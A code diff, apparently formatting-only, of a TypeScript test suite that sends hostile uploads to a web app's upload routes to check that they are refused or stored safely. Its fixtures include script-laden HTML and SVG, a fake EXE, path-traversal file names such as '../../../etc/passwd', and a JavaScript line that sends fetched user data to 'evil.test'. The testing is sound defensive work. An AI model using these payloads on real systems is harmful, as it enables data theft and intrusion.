@@ -51,11 +51,15 @@ async function readIds(adminId: string) {
       select table_name from information_schema.columns where table_schema = 'public' and column_name = 'id' and data_type = 'uuid'
       intersect select table_name from information_schema.columns where table_schema = 'public' and column_name = 'organization_id'`);
     for (const { table_name: table } of tables.rows) {
-      const hasStatus = (await client.query(`select 1 from information_schema.columns where table_name = $1 and column_name = 'status'`, [table])).rowCount;
+      const hasStatus = (
+        await client.query(`select 1 from information_schema.columns where table_name = $1 and column_name = 'status'`, [table])
+      ).rowCount;
       // A closed record refuses files for its own reasons; an open one lets the attack reach the upload.
       const { rows } = await client.query<{ id: string }>(
         `select id::text from "${table}" where organization_id = (select organization_id from users where id = $1) and id <> $1
-         ${hasStatus ? "order by (status::text in ('open', 'in_progress')) desc, id" : 'order by id'} limit 1`, [adminId]);
+         ${hasStatus ? "order by (status::text in ('open', 'in_progress')) desc, id" : 'order by id'} limit 1`,
+        [adminId],
+      );
       if (rows[0]) ids.set(table, rows[0].id);
     }
   } finally {
@@ -65,7 +69,9 @@ async function readIds(adminId: string) {
 
 function urlOf(route: RouteRecord): string {
   const segments = route.url.split('/');
-  return segments.map((seg, i) => (seg.startsWith(':') ? ids.get(segments[i - 1] ?? '') ?? '00000000-0000-7000-8000-000000000000' : seg)).join('/');
+  return segments
+    .map((seg, i) => (seg.startsWith(':') ? (ids.get(segments[i - 1] ?? '') ?? '00000000-0000-7000-8000-000000000000') : seg))
+    .join('/');
 }
 
 function headers(route: RouteRecord): Record<string, string> {
@@ -80,12 +86,25 @@ async function findUploadRoutes(): Promise<RouteRecord[]> {
     if (route.method !== 'POST' && route.method !== 'PUT') continue;
     const schema = (route.schema ?? {}) as { consumes?: string[]; body?: unknown };
     const declared = schema.consumes?.includes('multipart/form-data') ?? false;
-    const lastWord = route.url.split('/').filter((s) => s && !s.startsWith(':')).pop() ?? '';
+    const lastWord =
+      route.url
+        .split('/')
+        .filter((s) => s && !s.startsWith(':'))
+        .pop() ?? '';
     if (!declared && (schema.body !== undefined || !UPLOAD_WORD.test(lastWord))) continue;
-    const res = await t.app.inject({ method: route.method, url: urlOf(route), headers: headers(route), payload: { file: 'not a file' }, remoteAddress: nextIp() });
+    const res = await t.app.inject({
+      method: route.method,
+      url: urlOf(route),
+      headers: headers(route),
+      payload: { file: 'not a file' },
+      remoteAddress: nextIp(),
+    });
     const body = res.json() as { fields?: Record<string, string> };
     const refusesJson = res.statusCode >= 400 && res.statusCode < 500 && body.fields?.file !== undefined;
-    if (declared) expect(refusesJson, `${route.method} ${route.url} declares multipart but answered JSON with ${res.statusCode} ${res.body}`).toBe(true);
+    if (declared)
+      expect(refusesJson, `${route.method} ${route.url} declares multipart but answered JSON with ${res.statusCode} ${res.body}`).toBe(
+        true,
+      );
     if (refusesJson) found.push(route);
   }
   return found;
@@ -97,17 +116,32 @@ type Part = { name?: string; fileName?: string; contentType?: string; bytes: Buf
 function multipartOf(parts: Part[]) {
   const boundary = `----hostile${Math.random().toString(16).slice(2)}`;
   const chunks = parts.flatMap((p) => [
-    Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="${p.name ?? 'file'}"${p.fileName === undefined ? '' : `; filename="${p.fileName}"`}\r\n` +
-      (p.contentType ? `Content-Type: ${p.contentType}\r\n` : '') + '\r\n', 'utf8'),
-    p.bytes, Buffer.from('\r\n'),
+    Buffer.from(
+      `--${boundary}\r\nContent-Disposition: form-data; name="${p.name ?? 'file'}"${p.fileName === undefined ? '' : `; filename="${p.fileName}"`}\r\n` +
+        (p.contentType ? `Content-Type: ${p.contentType}\r\n` : '') +
+        '\r\n',
+      'utf8',
+    ),
+    p.bytes,
+    Buffer.from('\r\n'),
   ]);
-  return { payload: Buffer.concat([...chunks, Buffer.from(`--${boundary}--\r\n`)]), contentType: `multipart/form-data; boundary=${boundary}` };
+  return {
+    payload: Buffer.concat([...chunks, Buffer.from(`--${boundary}--\r\n`)]),
+    contentType: `multipart/form-data; boundary=${boundary}`,
+  };
 }
 
-async function send(route: RouteRecord, body: { payload: Buffer | string; contentType: string }, lang = 'en'): Promise<LightMyRequestResponse> {
+async function send(
+  route: RouteRecord,
+  body: { payload: Buffer | string; contentType: string },
+  lang = 'en',
+): Promise<LightMyRequestResponse> {
   requests += 1;
   return t.app.inject({
-    method: route.method as 'POST', url: urlOf(route), payload: body.payload, remoteAddress: nextIp(),
+    method: route.method as 'POST',
+    url: urlOf(route),
+    payload: body.payload,
+    remoteAddress: nextIp(),
     headers: { ...headers(route), 'content-type': body.contentType, 'accept-language': lang },
   });
 }
@@ -128,31 +162,69 @@ function listFiles(dir: string): string[] {
 const HTML = Buffer.from('<!doctype html><html><body><script>alert(document.cookie)</script></body></html>');
 const SVG = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>');
 const JS = Buffer.from('fetch("/api/users").then(r => r.text()).then(t => navigator.sendBeacon("https://evil.test", t));');
-const EXE = Buffer.concat([Buffer.from('MZ'), Buffer.alloc(58), Buffer.from([0x80, 0, 0, 0]), Buffer.alloc(64), Buffer.from('PE\0\0'), Buffer.alloc(200)]);
+const EXE = Buffer.concat([
+  Buffer.from('MZ'),
+  Buffer.alloc(58),
+  Buffer.from([0x80, 0, 0, 0]),
+  Buffer.alloc(64),
+  Buffer.from('PE\0\0'),
+  Buffer.alloc(200),
+]);
 /** A PNG signature followed by padding: sniffed as PNG, larger than any route allows. */
 const OVERSIZED = Buffer.concat([PNG, Buffer.alloc(MAX_UPLOAD_BYTES + 1 - PNG.length)]);
 
 /** Refused uploads: a 4xx in the error shape with a clear text, no row and no bytes left behind. */
 const REFUSED: { label: string; body: () => { payload: Buffer | string; contentType: string }; status?: number }[] = [
-  { label: 'a file over the size limit', status: 413, body: () => multipartOf([{ fileName: 'big.png', contentType: 'image/png', bytes: OVERSIZED }]) },
+  {
+    label: 'a file over the size limit',
+    status: 413,
+    body: () => multipartOf([{ fileName: 'big.png', contentType: 'image/png', bytes: OVERSIZED }]),
+  },
   { label: 'HTML named .png', body: () => multipartOf([{ fileName: 'photo.png', contentType: 'image/png', bytes: HTML }]) },
   { label: 'SVG with script named .png', body: () => multipartOf([{ fileName: 'photo.png', contentType: 'image/png', bytes: SVG }]) },
   { label: 'JavaScript named .png', body: () => multipartOf([{ fileName: 'photo.png', contentType: 'image/png', bytes: JS }]) },
   { label: 'SVG declared as image/svg+xml', body: () => multipartOf([{ fileName: 'logo.svg', contentType: 'image/svg+xml', bytes: SVG }]) },
   { label: 'an EXE named .pdf', body: () => multipartOf([{ fileName: 'report.pdf', contentType: 'application/pdf', bytes: EXE }]) },
   { label: 'a zero-byte file', body: () => multipartOf([{ fileName: 'empty.png', contentType: 'image/png', bytes: Buffer.alloc(0) }]) },
-  { label: 'two files', body: () => multipartOf([{ fileName: 'a.png', contentType: 'image/png', bytes: PNG }, { fileName: 'b.png', contentType: 'image/png', bytes: PNG }]) },
+  {
+    label: 'two files',
+    body: () =>
+      multipartOf([
+        { fileName: 'a.png', contentType: 'image/png', bytes: PNG },
+        { fileName: 'b.png', contentType: 'image/png', bytes: PNG },
+      ]),
+  },
   { label: 'no file, only a text field', body: () => multipartOf([{ name: 'note', bytes: Buffer.from('hello') }]) },
   { label: 'no parts at all', body: () => multipartOf([]) },
-  { label: 'a body cut off mid-file', body: () => { const m = multipartOf([{ fileName: 'a.png', contentType: 'image/png', bytes: PNG }]); return { ...m, payload: m.payload.subarray(0, 150) }; } },
+  {
+    label: 'a body cut off mid-file',
+    body: () => {
+      const m = multipartOf([{ fileName: 'a.png', contentType: 'image/png', bytes: PNG }]);
+      return { ...m, payload: m.payload.subarray(0, 150) };
+    },
+  },
   { label: 'multipart without a boundary', body: () => ({ payload: 'garbage', contentType: 'multipart/form-data' }) },
-  { label: 'JSON instead of a file', body: () => ({ payload: JSON.stringify({ file: PNG.toString('base64') }), contentType: 'application/json' }) },
+  {
+    label: 'JSON instead of a file',
+    body: () => ({ payload: JSON.stringify({ file: PNG.toString('base64') }), contentType: 'application/json' }),
+  },
 ];
 
 /** Hostile names on an acceptable file: stored harmlessly (or refused), never outside the files folder. */
 const HOSTILE_NAMES = [
-  '../../../etc/passwd', '..\\..\\win.ini', '/etc/shadow', 'a\u0000b.png', 'C:\\Windows\\System32\\evil.png',
-  '<script>alert(1)</script>.png', 'invoice\u202Egnp.exe', '....//....//x.png', '.', '..', ' ', 'a'.repeat(1_000) + '.png', '%2e%2e%2fpasswd',
+  '../../../etc/passwd',
+  '..\\..\\win.ini',
+  '/etc/shadow',
+  'a\u0000b.png',
+  'C:\\Windows\\System32\\evil.png',
+  '<script>alert(1)</script>.png',
+  'invoice\u202Egnp.exe',
+  '....//....//x.png',
+  '.',
+  '..',
+  ' ',
+  'a'.repeat(1_000) + '.png',
+  '%2e%2e%2fpasswd',
   'run.exe',
 ];
 
@@ -162,7 +234,7 @@ describe('hostile uploads on every upload route', () => {
     expect(uploadRoutes.length).toBeGreaterThanOrEqual(4);
   });
 
-  it('refuses oversized, mislabelled, empty, doubled, missing and malformed files with a 4xx in the reader\'s language that writes nothing', async () => {
+  it("refuses oversized, mislabelled, empty, doubled, missing and malformed files with a 4xx in the reader's language that writes nothing", async () => {
     const failures: string[] = [];
     for (const route of uploadRoutes) {
       for (const c of REFUSED) {
@@ -221,7 +293,10 @@ describe('hostile uploads on every upload route', () => {
           expect(rows.length, `${where}: one file row`).toBe(1);
           const row = rows[0]!;
           expect(row.file_name, where).not.toMatch(/[/\\]|\.\./);
-          expect([...row.file_name].some((c) => c.charCodeAt(0) < 32 || c.charCodeAt(0) === 127), `${where}: control characters in ${JSON.stringify(row.file_name)}`).toBe(false);
+          expect(
+            [...row.file_name].some((c) => c.charCodeAt(0) < 32 || c.charCodeAt(0) === 127),
+            `${where}: control characters in ${JSON.stringify(row.file_name)}`,
+          ).toBe(false);
           expect(row.file_name.length, where).toBeLessThanOrEqual(200);
           expect(row.file_name.trim().length, where).toBeGreaterThan(0);
           expect(row.mime_type, `${where}: the type is read from the content`).toBe('image/png');
@@ -246,8 +321,12 @@ async function fileRowsAfter(version: string): Promise<{ file_name: string; stor
   const client = new pg.Client({ connectionString: t.ownerUrl });
   await client.connect();
   try {
-    return (await client.query<{ file_name: string; storage_key: string; mime_type: string }>(
-      'select file_name, storage_key, mime_type from files where xmin::text::bigint > $1', [version])).rows;
+    return (
+      await client.query<{ file_name: string; storage_key: string; mime_type: string }>(
+        'select file_name, storage_key, mime_type from files where xmin::text::bigint > $1',
+        [version],
+      )
+    ).rows;
   } finally {
     await client.end();
   }
